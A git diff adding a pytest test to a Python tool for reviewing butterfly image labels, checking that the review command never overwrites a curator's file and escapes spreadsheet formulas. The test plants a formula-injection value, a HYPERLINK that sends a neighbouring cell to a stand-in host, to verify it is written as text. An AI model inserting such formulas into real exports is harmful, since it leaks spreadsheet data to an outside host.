@@ -8,6 +8,7 @@ import json
 import numpy as np
 import pandas as pd
 import pytest
+from conftest import TAXA
 
 from hybridwing.data.reviews import apply_reviews, read_exclusions
 from hybridwing.data.tables import TableError, normalise_table, read_csv_table
@@ -199,3 +200,33 @@ def test_label_issues_use_the_frozen_pretrained_embedding_when_there_is_one(tmp_
     assert "a probe on the frozen pretrained embedding" in caplog.text
     issues = pd.read_csv(tmp_path / "issues.csv")
     assert set(issues.head(3)["image_id"]) == {"i3", "i40", "i77"}
+
+
+def test_review_never_overwrites_a_curators_file_and_quotes_formulas(tmp_path, monkeypatch, capsys):
+    """Issue 20 (2, 9): an existing --out is refused and left as it is; without --out the next free
+    name is taken; a CAMID that a spreadsheet would run is written as text."""
+    from hybridwing.cli import main
+
+    results = tmp_path / "results"
+    (results / "review" / "dev").mkdir(parents=True)
+    (results / "data").mkdir()
+    pd.DataFrame({
+        "image_id": ["a", "b"], "filename": ["a.jpg", "b.jpg"], "label": ["", "lativitta"], "predicted": ["cyrbia", "notabilis"],
+        "p_top": [0.5, 0.6], "band": ["C", "C"], "entropy": [1.5, 1.2], "mutual_information": [0.0, 0.0],
+    }).to_csv(results / "review" / "dev" / "triage.csv", index=False)
+    metadata = metadata_rows(["a", "b"], "dev", ["cyrbia", "lativitta"])
+    metadata.loc[0, "camid"] = '=HYPERLINK("http://x/?"&B2,"open")'
+    metadata.assign(path=["a.jpg", "b.jpg"]).to_csv(results / "data" / "metadata.csv", index=False)
+    arguments = ["review", "dev", "--results", str(results), "--taxa", str(TAXA)]
+
+    curated = tmp_path / "labels.csv"
+    curated.write_text("CAMID,filename\nmy,work\n")
+    assert main([*arguments, "--out", str(curated)]) == 1
+    assert "exists already" in capsys.readouterr().err and curated.read_text() == "CAMID,filename\nmy,work\n"
+
+    monkeypatch.chdir(tmp_path)
+    assert main(arguments) == 0 and main(arguments) == 0
+    first, second = tmp_path / "review_dev.csv", tmp_path / "review_dev_2.csv"
+    assert first.is_file() and second.is_file() and first.read_bytes() == second.read_bytes()
+    written = pd.read_csv(first, dtype=str, keep_default_na=False)
+    assert written["CAMID"].tolist() == ['\'=HYPERLINK("http://x/?"&B2,"open")', "b"]
